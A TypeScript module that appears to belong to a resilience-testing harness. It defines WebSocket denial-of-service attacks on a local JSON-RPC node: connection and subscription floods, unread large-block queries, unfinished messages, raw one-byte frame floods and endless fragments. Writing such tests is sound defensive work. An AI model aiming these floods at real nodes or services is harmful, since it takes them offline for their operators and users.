/** Attacks over persistent connections. */

import { connect, type Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { WebSocket } from "ws";
import { type Attack, attackerHost, tally } from "../attack.js";
import { transactions } from "./transactions.js";

const AT_ONCE = 10;

const call = (method: string, params: readonly unknown[]): string =>
	JSON.stringify({ jsonrpc: "2.0", id: 1, method, params });

/**
 * Opens connections one after the other.
 * @param opened called for each open connection
 * @returns the opened connections, and their outcomes
 */
async function openAll(
	port: number,
	count: number,
	end: number,
	opened: (socket: WebSocket) => void,
): Promise<{ readonly sockets: WebSocket[]; readonly outcomes: string[] }> {
	const sockets: WebSocket[] = [];
	const outcomes: string[] = [];
	for (let n = 0; n < count && Date.now() < end; n++) {
		const socket = new WebSocket(`ws://127.0.0.1:${port}/jsonrpc`, {
			createConnection: () => connect({ host: "127.0.0.1", port, localAddress: attackerHost(n % 40) }),
		});
		sockets.push(socket);
		socket.on("open", () => opened(socket));
		socket.on("error", ({ message }) => outcomes.push(message));
		socket.on("close", (code) => outcomes.push(`closed ${code}`));
		// Limits pending connections, which are another attack.
		if (n % AT_ONCE === 0) {
			await new Promise((resolve) => {
				for (const event of ["open", "error", "close"] as const) socket.once(event, resolve);
			});
		}
	}
	return { sockets, outcomes };
}

const flood = (
	name: string,
	sends: string,
	count: number,
	opened: (socket: WebSocket) => void,
	beside?: Attack,
): Attack => ({
	name,
	sends,
	async run(victim, durationMs) {
		const end = Date.now() + durationMs;
		const { sockets, outcomes } = await openAll(victim.ports.jsonrpc, count, end, opened);
		await beside?.run(victim, Math.max(0, end - Date.now()));
		await sleep(Math.max(0, end - Date.now()));
		const kept = sockets.filter((socket) => socket.readyState === WebSocket.OPEN).length;
		for (const socket of sockets) socket.terminate();
		return `${kept} of ${sockets.length} kept; ${tally(outcomes)}`;
	},
});

const KINDS = [
	["newHeads"],
	["logs", {}],
	["newPendingTransactions", true],
	["syncing"],
	["newPendingTransactions"],
] as const;

/** A call of one byte, in its own frame. */
const SHORTEST_CALL = Buffer.from([0x81, 0x81, 0, 0, 0, 0, 0x78]);
const MANY_CALLS = Buffer.concat(Array.from({ length: 9_000 }, () => SHORTEST_CALL));

/** Sends raw frames. */
function sendRaw(socket: WebSocket, frames: Buffer): void {
	(socket as unknown as { readonly _socket: Socket })._socket.write(frames);
}

const hashing = transactions.find(({ name }) => name === "broadcast-hash");

export const webSockets: readonly Attack[] = [
	flood(
		"socket-queries",
		"400 queries of blocks of 450 KB over each of 4 WebSocket connections, nothing read",
		4,
		(socket) => {
			socket.pause();
			for (let n = 0; n < 400; n++)
				socket.send(call("eth_getBlockByNumber", [`0x${(41 + (n % 30)).toString(16)}`, true]));
		},
	),
	flood(
		"socket-subscriptions",
		"1,500 WebSocket connections that subscribe 100 times each and read nothing, while transactions come",
		1_500,
		(socket) => {
			for (let n = 0; n < 100; n++) socket.send(call("eth_subscribe", KINDS[n % KINDS.length] ?? []));
			socket.pause();
		},
		hashing,
	),
	flood(
		"socket-partial",
		"1,500 WebSocket connections that send 127 KiB of a message of 128 KiB, and no more",
		1_500,
		(socket) => socket.send("x".repeat(127 * 1024), { fin: false }),
	),
	flood(
		"socket-calls",
		"9,000 calls of one byte at once over each of 1,500 WebSocket connections",
		1_500,
		(socket) => sendRaw(socket, MANY_CALLS),
	),
	flood(
		"socket-fragments",
		"5,000 fragments of one byte over each of 1,500 WebSocket connections, and no more",
		1_500,
		(socket) => {
			for (let n = 0; n < 5_000; n++) socket.send("x", { fin: false });
		},
	),
];
